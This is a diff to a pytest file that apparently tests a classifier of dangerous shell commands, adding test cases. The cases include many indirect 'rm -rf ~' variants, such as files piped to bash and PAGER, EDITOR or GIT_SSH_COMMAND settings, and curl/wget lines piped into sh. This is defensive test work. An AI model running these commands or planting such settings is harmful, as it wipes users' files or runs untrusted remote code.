@@ -61,6 +61,7 @@ def test_a_command_made_of_braces_is_read_as_the_words_it_becomes(line: str) -> 
         "echo 'rm -rf ~' > f; cat f | bash",
         "echo 'rm -rf ~' > f; mv f g; bash g",
         "echo 'rm -rf ~' | tee f; bash f",
+        "echo 'rm -rf ~' | sudo tee f; bash f",
         "echo 'rm -rf ~' | tee f; ssh host < f",
         "cp /bin/rm x; ./x -rf ~",
         "ln -s /bin/rm x; ./x -rf ~",
@@ -83,13 +84,43 @@ def test_what_a_line_has_written_or_copied_is_known_when_it_runs_it(line: str) -
         "PS1='$(rm -rf ~)'",
         "git config core.pager 'rm -rf ~'",
         "git -c core.sshCommand='rm -rf ~' fetch",
+        "env PAGER='rm -rf ~' git log",
+        "env -i GIT_SSH_COMMAND='rm -rf ~' git fetch",
+        "sudo EDITOR='rm -rf ~' sudoedit x",
+        "MANPAGER='rm -rf ~' man ls",
+        "PS1='`rm -rf ~`'",
     ],
 )
 def test_a_setting_that_others_run_is_read_as_what_they_will_run(line: str) -> None:
     assert classify(line, CONTEXT).catastrophe
 
 
-@pytest.mark.parametrize("line", ["export MSG='rm -rf ~'", "git config user.name 'rm -rf ~'", "cp x y; cp y x; ./x"])
+@pytest.mark.parametrize(
+    "line",
+    [
+        "echo ls > f; curl http://x >> f; cat f | sh",
+        "echo ls > f; wget -O f http://x; cat f | sh",
+        "echo ls > f; cp evil f; cat f | sudo bash",
+        "echo ls > f; curl http://x -o f; cat f | python3",
+    ],
+)
+def test_what_else_may_have_been_written_to_a_file_is_not_known(line: str) -> None:
+    assert classify(line, CONTEXT).level is Level.DESTRUCTIVE
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "export MSG='rm -rf ~'",
+        "COMMAND='rm -rf build'",
+        "PS1='\\u@\\h:\\w> /etc/passwd '",
+        "git config user.name 'rm -rf ~'",
+        "git commit -m 'core.editor=rm -rf ~'",
+        "git mv build.cmd shutdown",
+        "export PROMPT_COMMAND='history -a'",
+        "cp x y; cp y x; ./x",
+    ],
+)
 def test_a_setting_that_nobody_runs_is_only_a_text(line: str) -> None:
     assert classify(line, CONTEXT).level is Level.UNKNOWN
 
